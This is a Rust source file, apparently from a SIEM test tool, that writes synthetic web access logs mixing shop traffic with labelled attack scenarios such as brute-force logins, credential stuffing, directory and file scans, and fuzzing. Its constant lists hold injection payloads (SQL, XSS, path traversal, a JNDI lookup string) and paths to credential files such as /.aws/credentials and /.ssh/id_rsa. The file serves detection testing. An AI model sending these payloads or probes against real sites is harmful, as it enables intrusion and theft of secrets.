            let gap = self.rng.range(300, 3_000) as u32;
            for _ in 0..pages {
                let (p, status) = if self.rng.f64() < missing {
                    let id = self.rng.range(5001, 9000);
                    (self.product_path(id), 404)
                } else {
                    match self.rng.below(10) {
                        0..=5 => {
                            let id = self.rng.range(1, 5000);
                            (self.product_path(id), 200)
                        }
                        6..=7 => (self.category_path(), 200),
                        8 => {
                            let bl = *self.rng.pick(BLOG);
                            (self.lit(bl), 200)
                        }
                        _ => {
                            let id = self.rng.range(1, 5000);
                            (self.image(id), 200)
                        }
                    }
                };
                let bytes = if status == 200 {
                    self.size(10_000, 60_000)
                } else {
                    1_200
                };
                self.get(t, w, p, status, bytes);
                t += gap / 2 + self.size(0, gap);
            }
        }
    }

    fn rss_reader(&mut self) {
        let client = self.new_client(Scenario::RssReader);
        let ua = self.pick_ua(RSS_UAS);
        let w = Who {
            client,
            ua,
            user: Span::default(),
        };
        let every = self.rng.range(15, 60) as u32 * 60_000;
        let feed = self.lit("/blog/feed.xml");
        let mut t = self.rng.below(u64::from(every)) as u32;
        while t < DAY_MS {
            if self.rng.chance(0.8) {
                self.get(t, w, feed, 304, 0);
            } else {
                self.get(t, w, feed, 200, 48_000);
            }
            t += every + self.size(0, 30_000);
        }
    }

    // -- attacks --

    fn attacker(&mut self, s: Scenario, uas: &'static [&'static str]) -> Who {
        let client = self.new_client(s);
        let ua = self.pick_ua(uas);
        Who {
            client,
            ua,
            user: Span::default(),
        }
    }

    /// Guesses against the web form (account not logged) or the API token endpoint (account in
    /// `%u`).
    fn guess(&mut self, t: u32, w: Who, api: bool, ok: bool) {
        if api {
            let p = self.lit("/api/v1/auth/token");
            let (s, b) = if ok { (200, 612) } else { (401, 96) };
            self.hit(t, w, POST, p, s, b, REF_NONE, Span::default());
        } else {
            let p = self.lit("/login");
            let (s, b) = if ok { (302, 0) } else { (401, 10_100) };
            self.hit(t, w, POST, p, s, b, REF_SITE, p);
        }
    }

    fn login_bruteforce(&mut self) {
        let mut w = self.attacker(Scenario::LoginBruteforce, TOOLISH_UAS);
        let api = self.rng.chance(0.4);
        if api {
            let acct = *self.rng.pick(TARGET_ACCOUNTS);
            w.user = self.lit(acct);
        }
        let tries = self.rng.range(80, 1_500);
        let mean = 300.0 + self.rng.f64() * 2_700.0;
        let mut t = self.any_time();
        for _ in 0..tries {
            self.guess(t, w, api, false);
            t += 50 + self.rng.exp(mean) as u32;
        }
        if self.rng.chance(0.1) {
            self.guess(t, w, api, true);
        }
    }

    fn credential_stuffing(&mut self) {
        let w = self.attacker(Scenario::CredentialStuffing, TOOLISH_UAS);
        let api = self.rng.chance(0.5);
        let tries = self.rng.range(100, 2_000);
        let mean = 500.0 + self.rng.f64() * 4_500.0;
        let hit_rate = 0.01 + self.rng.f64() * 0.02;
        let mut t = self.any_time();
        for _ in 0..tries {
            let user = if api {
                self.leaked_name()
            } else {
                Span::default()
            };
            let ok = self.rng.f64() < hit_rate;
            self.guess(t, Who { user, ..w }, api, ok);
            t += 50 + self.rng.exp(mean) as u32;
        }
    }

    fn distributed_campaign(&mut self) {
        let id = format!("campaign-{}", self.campaigns.len() + 1);
        let acct = *self.rng.pick(TARGET_ACCOUNTS);
        let user = self.lit(acct);
        let ips = self.rng.range(25, 80);
        let start = self.rng.below(u64::from(DAY_MS - 4 * 3_600_000)) as u32;
        let span = self.rng.range(3_600_000, 4 * 3_600_000) as u32;
        // A botnet shares one user agent, or rotates browser ones.
        let shared = if self.rng.chance(0.5) {
            Some(self.pick_ua(TOOLISH_UAS))
        } else {
            None
        };
        let mut nets = HashSet::new();
        let mut members = Vec::new();
        for _ in 0..ips {
            let ip = loop {
                let ip = self.fresh_ip();
                if nets.insert(ip >> 8) {
                    break ip;
                }
            };
            let client = self.new_client_at(ip, Scenario::DistributedBruteforce);
            self.clients[client as usize].campaign = Some(self.campaigns.len());
            members.push(ip_string(ip));
            let ua = match shared {
                Some(u) => u,
                None => self.pick_ua(BROWSER_UAS),
            };
            let w = Who { client, ua, user };
            for _ in 0..self.rng.range(2, 3) {
                let t = start + self.rng.below(u64::from(span)) as u32;
                self.guess(t, w, true, false);
            }
        }
        self.campaigns.push(Campaign {
            id,
            account: acct.to_owned(),
            clients: members,
        });
    }

    fn low_and_slow(&mut self) {
        let mut w = self.attacker(Scenario::LowAndSlowBruteforce, TOOLISH_UAS);
        let api = self.rng.chance(0.3);
        if api {
            let acct = *self.rng.pick(TARGET_ACCOUNTS);
            w.user = self.lit(acct);
        }
        let hours = self.rng.range(8, 24) as u32;
        let mut t = self.rng.below(u64::from(DAY_MS - hours * 3_600_000 + 1)) as u32;
        let end = t + hours * 3_600_000;
        while t < end {
            self.guess(t, w, api, false);
            t += self.size(120_000, 600_000);
        }
    }

    fn sensitive_file_scan(&mut self) {
        let w = self.attacker(Scenario::SensitiveFileScan, TOOLISH_UAS);
        let n = self.rng.range(1, 60) as usize;
        let mut t = self.any_time();
        let first = self.rng.below(SENSITIVE.len() as u64) as usize;
        for k in 0..n {
            let path = SENSITIVE[(first + k * 7) % SENSITIVE.len()];
            let p = self.lit(path);
            let status = if path.starts_with("/.git") || path.starts_with("/.ht") {
                403
            } else {
                404
            };
            let bytes = self.size(150, 1_200);
            self.get(t, w, p, status, bytes);
            t += self.size(100, 5_000);
        }
    }

    fn directory_bruteforce(&mut self) {
        let w = self.attacker(Scenario::DirectoryBruteforce, TOOLISH_UAS);
        let n = self.rng.range(300, 3_000);
        let mean = 50.0 + self.rng.f64() * 450.0;
        let mut t = self.any_time();
        let ext = *self.rng.pick(&["", ".php", ".html", ".asp", ".bak", "/"]);
        for k in 0..n {
            let word = WORDLIST[(k as usize) % WORDLIST.len()];
            let off = self.begin();
            self.s("/");
            self.s(word);
            if k as usize >= WORDLIST.len() {
                let r = k / WORDLIST.len() as u64;
                self.n(r);
            }
            self.s(ext);
            let p = self.end(off);
            let status = match self.rng.below(100) {
                0..=91 => 404,
                92..=94 => 403,
                95..=97 => 301,
                _ => 200,
            };
            let bytes = self.size(150, 1_200);
            self.get(t, w, p, status, bytes);
            t += 1 + self.rng.exp(mean) as u32;
        }
    }

    fn injection_probe(&mut self) {
        let w = self.attacker(Scenario::InjectionProbe, BROWSER_UAS);
        let n = self.rng.range(10, 80);
        let mut t = self.any_time();
        for _ in 0..n {
            let p = if self.rng.chance(0.6) {
                let payload = *self.rng.pick(PAYLOADS);
                let off = self.begin();
                if let Some(rest) = payload.strip_prefix('/') {
                    // A payload in the path, sent as the tool wrote it.
                    self.s("/static/");
                    self.s(rest);
                } else {
                    let (path, param) = *self.rng.pick(&[
                        ("/search", "q"),
                        ("/products", "id"),
                        ("/category/jeans", "sort"),
                        ("/download", "file"),
                        ("/login", "next"),
                        ("/api/v1/products", "category"),
                    ]);
                    self.s(path);
                    self.s("?");
                    self.s(param);
                    self.s("=");
                    self.q20(payload);
                }
                self.end(off)
            } else {
                let id = self.rng.range(1, 5000);
                self.product_path(id)
            };
            let status = *self.rng.pick(&[200u16, 200, 400, 404, 500]);
            let bytes = self.size(300, 30_000);
            self.get(t, w, p, status, bytes);
            t += self.size(500, 20_000);
        }
    }

    fn attack_tool_ua(&mut self) {
        let w = self.attacker(Scenario::AttackToolUa, TOOL_UAS);
        let n = self.rng.range(1, 200);
        let mut t = self.any_time();
        for _ in 0..n {
            let (p, status) = match self.rng.below(4) {
                0 => (self.lit("/"), 200),
                1 => {
                    let id = self.rng.range(1, 5000);
                    (self.product_path(id), 200)
                }
                _ => {
                    let word = *self.rng.pick(WORDLIST);
                    let off = self.begin();
                    self.s("/");
                    self.s(word);
                    (self.end(off), 404)
                }
            };
            let bytes = self.size(200, 20_000);
            self.get(t, w, p, status, bytes);
            t += self.size(50, 3_000);
        }
    }

    fn fuzz_burst(&mut self) {
        let w = self.attacker(Scenario::FuzzBurst, TOOLISH_UAS);
        let bursts = self.rng.range(1, 3);
        for _ in 0..bursts {
            let n = self.rng.range(25, 150) as u32;
            let dur = self.rng.range(5_000, 55_000) as u32;
            let mut t = self.any_time();
            for _ in 0..n {
                let off = self.begin();
                self.s("/");
                for _ in 0..self.rng.range(4, 12) {
                    const ALNUM: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
                    let c = ALNUM[self.rng.below(ALNUM.len() as u64) as usize];
                    self.arena.push(c);
                }
                let ext = *self.rng.pick(&["", "", ".php", ".txt", ".json", ".js"]);
                self.s(ext);
                let p = self.end(off);
                let bytes = self.size(150, 600);
                self.get(t, w, p, 404, bytes);
                t += dur / n;
            }
        }
    }
}

// ---- Writing --------------------------------------------------------------------------------

impl Log {
    fn span(&self, s: Span) -> &[u8] {
        &self.arena[s.off as usize..(s.off + s.len) as usize]
    }

    /// Writes every line in time order.
    fn write_log(&self, w: &mut dyn Write, format: LogFormat) -> io::Result<()> {
        let mut buf: Vec<u8> = Vec::with_capacity(1 << 16);
        let mut stamp = Stamp::default();
        for r in &self.recs {
            let secs = START + i64::from(r.t / 1000);
            stamp.set(secs);
            let ip = self.clients[r.client as usize].ip;
            let method: &[u8] = match r.method {
                POST => b"POST",
                HEAD => b"HEAD",
                _ => b"GET",
            };
            let path = self.span(r.path);
            let user = self.span(r.user);
            let ua = self.uas[r.ua as usize].as_bytes();
            match format {
                LogFormat::Combined => {
                    push_ip(&mut buf, ip);
                    buf.extend_from_slice(b" - ");
                    if user.is_empty() {
                        buf.push(b'-');
                    } else {
                        buf.extend_from_slice(user);
                    }
                    buf.extend_from_slice(b" [");
                    buf.extend_from_slice(&stamp.apache);
                    buf.extend_from_slice(b"] \"");
                    buf.extend_from_slice(method);
                    buf.push(b' ');
                    buf.extend_from_slice(path);
                    buf.extend_from_slice(b" HTTP/1.1\" ");
                    push_u64(&mut buf, u64::from(r.status));
                    buf.push(b' ');
                    if r.bytes == 0 {
                        buf.push(b'-');
                    } else {
                        push_u64(&mut buf, u64::from(r.bytes));
                    }
                    buf.extend_from_slice(b" \"");
                    self.push_referer(&mut buf, r, b"-");
                    buf.extend_from_slice(b"\" \"");
                    buf.extend_from_slice(ua);
                    buf.extend_from_slice(b"\"\n");
                }
                LogFormat::Json => {
                    buf.extend_from_slice(b"{\"time\":\"");
                    buf.extend_from_slice(&stamp.iso);
                    buf.extend_from_slice(b"\",\"remote_addr\":\"");
                    push_ip(&mut buf, ip);
                    buf.extend_from_slice(b"\",\"remote_user\":\"");
                    push_json_str(&mut buf, user);
                    buf.extend_from_slice(b"\",\"request\":\"");
                    buf.extend_from_slice(method);
                    buf.push(b' ');
                    push_json_str(&mut buf, path);
                    buf.extend_from_slice(b" HTTP/1.1\",\"status\":");
                    push_u64(&mut buf, u64::from(r.status));
                    buf.extend_from_slice(b",\"body_bytes_sent\":");
                    push_u64(&mut buf, u64::from(r.bytes));
                    buf.extend_from_slice(b",\"http_referer\":\"");
                    let mut referer = Vec::new();
                    self.push_referer(&mut referer, r, b"");
                    push_json_str(&mut buf, &referer);
                    buf.extend_from_slice(b"\",\"http_user_agent\":\"");
                    push_json_str(&mut buf, ua);
                    buf.extend_from_slice(b"\"}\n");
                }
            }
            if buf.len() >= (1 << 16) - 4096 {
                w.write_all(&buf)?;
                buf.clear();
            }
        }
        w.write_all(&buf)
    }

    fn push_referer(&self, buf: &mut Vec<u8>, r: &Rec, none: &[u8]) {
        match r.ref_kind {
            REF_SITE => {
                buf.extend_from_slice(ORIGIN.as_bytes());
                buf.extend_from_slice(self.span(r.referer));
            }
            REF_LIT => buf.extend_from_slice(self.span(r.referer)),
            _ => buf.extend_from_slice(none),
        }
    }

    fn truth(&self, seed: u64, format: LogFormat) -> Truth<'_> {
        let scenarios = Scenario::ALL
            .iter()
            .map(|&s| {
                let of = self.clients.iter().filter(|c| c.scenario == s);
                ScenarioTruth {
                    name: s.name(),
                    attacker: s.attacker(),
                    clients: of.clone().count(),
                    lines: of.map(|c| c.lines).sum(),
                }
            })
            .collect();
        let clients = self
            .clients
            .iter()
            .map(|c| ClientOut {
                ip: ip_string(c.ip),
                scenario: c.scenario.name(),
                attacker: c.scenario.attacker(),
                lines: c.lines,
                campaign: c.campaign.map(|i| self.campaigns[i].id.as_str()),
            })
            .collect();
        let mut start = Vec::new();
        let mut st = Stamp::default();
        st.set(START);
        start.extend_from_slice(&st.iso);
        Truth {
            generator: "tower-siem generate",
            seed,
            lines: self.recs.len(),
            format,
            start: String::from_utf8_lossy(&start).into_owned(),
            scenarios,
            clients,
            campaigns: &self.campaigns,
        }
    }
}

/// The two time renderings of the current second, recomputed only when the second changes.
#[derive(Default)]
struct Stamp {
    secs: Option<i64>,
    apache: Vec<u8>,
    iso: Vec<u8>,
}

impl Stamp {
    fn set(&mut self, secs: i64) {
        if self.secs == Some(secs) {
            return;
        }
        self.secs = Some(secs);
        let t = jiff::Timestamp::from_second(secs)
            .unwrap_or(jiff::Timestamp::UNIX_EPOCH)
            .to_zoned(jiff::tz::TimeZone::UTC);
        self.apache = t
            .strftime("%d/%b/%Y:%H:%M:%S +0000")
            .to_string()
            .into_bytes();
        self.iso = t
            .strftime("%Y-%m-%dT%H:%M:%S+00:00")
            .to_string()
            .into_bytes();
    }
}

fn push_u64(buf: &mut Vec<u8>, mut n: u64) {
    let mut tmp = [0u8; 20];
    let mut i = tmp.len();
    loop {
        i -= 1;
        tmp[i] = b'0' + (n % 10) as u8;
        n /= 10;
        if n == 0 {
            break;
        }
    }
    buf.extend_from_slice(&tmp[i..]);
}

fn push_ip(buf: &mut Vec<u8>, ip: u32) {
    for (i, o) in ip.to_be_bytes().iter().enumerate() {
        if i > 0 {
            buf.push(b'.');
        }
        push_u64(buf, u64::from(*o));
    }
}

fn ip_string(ip: u32) -> String {
    std::net::Ipv4Addr::from(ip).to_string()
}

fn push_json_str(buf: &mut Vec<u8>, s: &[u8]) {
    for &b in s {
        match b {
            b'"' => buf.extend_from_slice(b"\\\""),
            b'\\' => buf.extend_from_slice(b"\\\\"),
            0..=0x1f => {
                buf.extend_from_slice(b"\\u00");
                const HEX: &[u8; 16] = b"0123456789abcdef";
                buf.extend_from_slice(&[HEX[(b >> 4) as usize], HEX[(b & 15) as usize]]);
            }
            _ => buf.push(b),
        }
    }
}

// ---- A small deterministic generator (SplitMix64) -------------------------------------------

/// SplitMix64: tiny, fast, and its output for a seed never changes, so logs are reproducible
/// across platforms and versions of any dependency.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Self {
        Rng(seed ^ 0x5eed_0f70_5e75_1e11)
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (`n > 0`).
    fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next()) * u128::from(n)) >> 64) as u64
    }

    /// Uniform in `lo..=hi`.
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }

    fn f64(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }

    fn chance(&mut self, p: f64) -> bool {
        self.f64() < p
    }

    /// Exponentially distributed with this mean.
    fn exp(&mut self, mean: f64) -> f64 {
        -mean * (1.0 - self.f64()).ln()
    }

    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
}

// ---- Vocabulary -----------------------------------------------------------------------------

const CATEGORIES: &[&str] = &[
    "jeans",
    "shirts",
    "dresses",
    "shoes",
    "boots",
    "jackets",
    "knitwear",
    "accessories",
    "bags",
    "kids",
    "sale",
    "new-in",
    "sportswear",
    "hats",
    "socks",
    "outerwear",
];
const ADJ: &[&str] = &[
    "slim", "relaxed", "classic", "organic", "vintage", "stretch", "linen", "wool", "denim",
    "leather", "canvas", "cotton", "merino", "waxed", "quilted", "cropped", "select",
];
const NOUN: &[&str] = &[
    "jeans", "shirt", "dress", "sneaker", "boot", "jacket", "sweater", "cap", "tote", "belt",
    "scarf", "hoodie", "chinos", "parka", "loafer", "tee",
];
/// Real searches, including the ones that look like SQL or markup to a naive filter.
const SEARCHES: &[&str] = &[
    "o'neill jacket",
    "o'neill",
    "select fit jeans",
    "union made boots",
    "drop shipping",
    "levi's 501",
    "rock & roll tee",
    "50% off",
    "women's boots size 8",
    "t-shirt",
    "black or white sneakers",
    "and/or tote",
    "sleep mask",
    "order by phone",
    "delete my account",
    "update address",
    "where is my order",
    "table runner",
    "from dusk till dawn tee",
    "drop-shoulder sweater",
    "c++ mug",
    "café au lait scarf",
    "niño jacket",
    "grey/blue hoodie",
    "\"denim jacket\"",
    "i <3 ny tee",
    "1/2 zip fleece",
    "script font poster",
    "men's chinos 32x34",
    "kids' rain boots",
    "null",
    "size 10; wide fit",
    "alert tag",
    "jeans -skinny",
];
const LOOKBOOK: &str = "/blog/autumn-lookbook-2026";
const BLOG: &[&str] = &[
    "/blog/how-to-wash-raw-denim",
    LOOKBOOK,
    "/blog/behind-the-seams",
    "/blog/caring-for-merino",
    "/blog/",
];
const ASSETS: &[&str] = &[
    "/static/css/app.3f9a2c1e.css",
    "/static/js/vendor.1c2d3e4f.js",
    "/static/js/app.8b1d4e7a.js",
    "/static/img/logo.svg",
    "/static/fonts/inter-var.woff2",
];
const FIRST_NAMES: &[&str] = &[
    "maria", "james", "li", "fatima", "john", "olga", "ahmed", "sofia", "lucas", "emma", "noah",
    "aisha", "david", "chen", "sara", "ivan", "amir", "julia", "kenji", "nora",
];
const LAST_NAMES: &[&str] = &[
    "garcia", "smith", "wang", "khan", "mueller", "rossi", "novak", "silva", "kim", "dubois",
    "oneill", "jensen", "okafor", "tanaka", "haddad", "kowalski",
];
const MAIL_DOMAINS: &[&str] = &["example.com", "example.net", "mail.example.org"];
const LEAK_DOMAINS: &[&str] = &[
    "webmail.example",
    "inbox.example",
    "freemail.test",
    "post.invalid",
];
const TARGET_ACCOUNTS: &[&str] = &[
    "admin",
    "administrator",
    "info",
    "ceo@shop.example.com",
    "m.garcia",
    "support",
    "test",
];

const BROWSER_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
];
const DESKTOP_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
];
const APP_UAS: &[&str] = &[
    "ShopApp/5.4.0 (iPhone; iOS 18.1; Scale/3.00)",
    "ShopApp/5.4.0 (iPhone; iOS 17.6.1; Scale/3.00)",
    "ShopApp/5.3.2 (Android 14; Pixel 8) okhttp/4.12.0",
    "ShopApp/5.4.0 (Android 13; SM-A536B) okhttp/4.12.0",
];
const MONITOR_UAS: &[&str] = &[
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "Mozilla/5.0 (compatible; StatusCake)",
    "Better Uptime Bot Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    "kube-probe/1.31",
];
const RSS_UAS: &[&str] = &[
    "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)",
    "NewsBlur Feed Fetcher - 4 subscribers - https://www.newsblur.com/site/123/shop",
    "Tiny Tiny RSS/23.12 (https://tt-rss.org/)",
    "FreshRSS/1.24.3 (Linux; https://freshrss.org)",
    "Inoreader/1.0 (+http://www.inoreader.com/feed-fetcher; 3 subscribers)",
    "Miniflux/2.2.3 (https://miniflux.app)",
];
/// Crawlers and the /16 their operator crawls from.
const CRAWLERS: &[(&str, u32)] = &[
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 0x42F9_0000),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/131.0.6778.85 Safari/537.36", 0x42F9_0000),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 0x9D37_0000),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 0x5FD5_0000),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", 0x14BF_0000),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 0x36EB_0000),
];
/// What attackers send when they do not announce a tool: scripts and copied browser strings.
const TOOLISH_UAS: &[&str] = &[
    "python-requests/2.32.3",
    "curl/8.5.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/115.0.0.0 Safari/537.36",
    "okhttp/4.9.3",
    "Java/17.0.2",
    "axios/1.6.8",
];
/// Attack tools that say who they are.
const TOOL_UAS: &[&str] = &[
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:002917)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "feroxbuster/2.11.0",
    "Wfuzz/3.1.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36 (Acunetix)",
];
const SENSITIVE: &[&str] = &[
    "/.env",
    "/.env.production",
    "/.env.bak",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/.htpasswd",
    "/.DS_Store",
    "/wp-config.php.bak",
    "/wp-config.php~",
    "/wp-login.php",
    "/xmlrpc.php",
    "/config.php",
    "/backup.zip",
    "/backup.sql",
    "/db.sql.gz",
    "/database.sql",
    "/site.tar.gz",
    "/phpinfo.php",
    "/info.php",
    "/phpmyadmin/",
    "/adminer.php",
    "/server-status",
    "/actuator/env",
    "/actuator/heapdump",
    "/debug/pprof/",
    "/.vscode/sftp.json",
    "/docker-compose.yml",
    "/config/database.yml",
    "/settings.py",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/.npmrc",
    "/terraform.tfstate",
    "/web.config",
    "/.bash_history",
    "/index.php.bak",
    "/app/etc/local.xml.bak",
    "/credentials.json.bak",
];
const WORDLIST: &[&str] = &[
    "admin",
    "administrator",
    "backup",
    "backups",
    "old",
    "new",
    "test",
    "tests",
    "dev",
    "staging",
    "api",
    "v1",
    "v2",
    "config",
    "uploads",
    "upload",
    "images",
    "img",
    "tmp",
    "temp",
    "logs",
    "log",
    "private",
    "cgi-bin",
    "includes",
    "inc",
    "lib",
    "vendor",
    "portal",
    "dashboard",
    "console",
    "manager",
    "panel",
    "cpanel",
    "webmail",
    "mail",
    "files",
    "download",
    "downloads",
    "data",
    "db",
    "sql",
    "install",
    "setup",
    "demo",
    "beta",
    "internal",
    "secret",
    "hidden",
    "user",
    "users",
    "account",
    "accounts",
    "auth",
    "oauth",
    "static",
    "assets",
    "media",
    "public",
    "server",
    "status",
    "stats",
    "metrics",
    "monitor",
    "debug",
    "trace",
    "cache",
    "archive",
    "export",
    "import",
    "report",
    "reports",
    "shop",
    "store",
    "cart",
    "checkout",
    "payment",
    "orders",
    "invoice",
    "docs",
    "documentation",
    "help",
    "support",
    "blog",
    "news",
    "forum",
    "wiki",
    "jenkins",
    "gitlab",
    "jira",
    "grafana",
    "kibana",
    "solr",
    "phpMyAdmin",
    "home",
];
/// Probes as attack tools send them (before URL encoding); a leading `/` puts one in the path.
const PAYLOADS: &[&str] = &[
    "1' OR '1'='1",
    "1' OR 1=1-- -",
    "' UNION SELECT NULL,NULL,NULL--",
    "1 UNION ALL SELECT username,password FROM users--",
    "1' AND SLEEP(5)-- -",
    "1; DROP TABLE users--",
    "admin'--",
    "1' ORDER BY 3--+",
    "1 AND 1=1",
    "' AND extractvalue(1,concat(0x7e,version()))-- -",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "'\"><iframe src=javascript:alert(1)>",
    "../../../../etc/passwd",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "../../../../windows/win.ini",
    "/..%2f..%2f..%2f..%2fetc/passwd",
    "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://198.51.100.7:1389/a}",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn render(lines: u64, seed: u64, format: LogFormat) -> (Log, Vec<u8>) {
        let log = generate(lines, seed);
        let mut out = Vec::new();
        log.write_log(&mut out, format).unwrap();
        (log, out)
    }

    #[test]
    fn same_seed_same_bytes_other_seed_other_bytes() {
        let (_, a) = render(30_000, 7, LogFormat::Combined);
        let (_, b) = render(30_000, 7, LogFormat::Combined);
        let (_, c) = render(30_000, 8, LogFormat::Combined);
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn exact_line_count_in_time_order_with_every_scenario() {
        let (log, out) = render(40_000, 3, LogFormat::Combined);
        let text = String::from_utf8(out).unwrap();
        assert_eq!(text.lines().count(), 40_000);
        assert!(log.recs.windows(2).all(|w| w[0].t <= w[1].t));
        for s in Scenario::ALL {
            if s.attacker() {
                assert!(log.clients.iter().any(|c| c.scenario == s), "{s:?} missing");
            }
        }
        let truth = serde_json::to_value(log.truth(3, LogFormat::Combined)).unwrap();
        let lines: u64 = truth["clients"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["lines"].as_u64().unwrap())
            .sum();
        assert_eq!(lines, 40_000, "every line belongs to a labelled client");
        // Addresses are unique per client.
        let ips: HashSet<u32> = log.clients.iter().map(|c| c.ip).collect();
        assert_eq!(ips.len(), log.clients.len());
    }

    #[test]
    fn combined_lines_have_the_combined_shape() {
        let (_, out) = render(20_000, 1, LogFormat::Combined);
        let text = String::from_utf8(out).unwrap();
        for line in text.lines().take(2_000) {
            let fields: Vec<&str> = line.split('"').collect();
            assert_eq!(fields.len(), 7, "{line}");
            assert!(
                fields[0].contains(" [") && fields[0].ends_with("+0000] "),
                "{line}"
            );
            assert!(fields[1].ends_with(" HTTP/1.1"), "{line}");
        }
        assert!(text.starts_with(|c: char| c.is_ascii_digit()));
        assert!(text.contains("[26/Nov/2026:"));
    }

    #[test]
    fn json_lines_parse() {
        let (log, out) = render(20_000, 1, LogFormat::Json);
        let text = String::from_utf8(out).unwrap();
        let mut n = 0;
        for line in text.lines() {
            let v: serde_json::Value = serde_json::from_str(line).unwrap();
            assert!(v["time"].as_str().unwrap().starts_with("2026-11-2"));
            assert!(v["status"].as_u64().is_some());
            n += 1;
        }
        assert_eq!(n, log.recs.len());
    }

    #[test]
    fn civil_dates() {
        let stamp = |secs: i64| {
            let mut s = Stamp::default();
            s.set(secs);
            (
                String::from_utf8(s.apache).unwrap(),
                String::from_utf8(s.iso).unwrap(),
            )
        };
        assert_eq!(
            stamp(0),
            (
                "01/Jan/1970:00:00:00 +0000".into(),
                "1970-01-01T00:00:00+00:00".into()
            )
        );
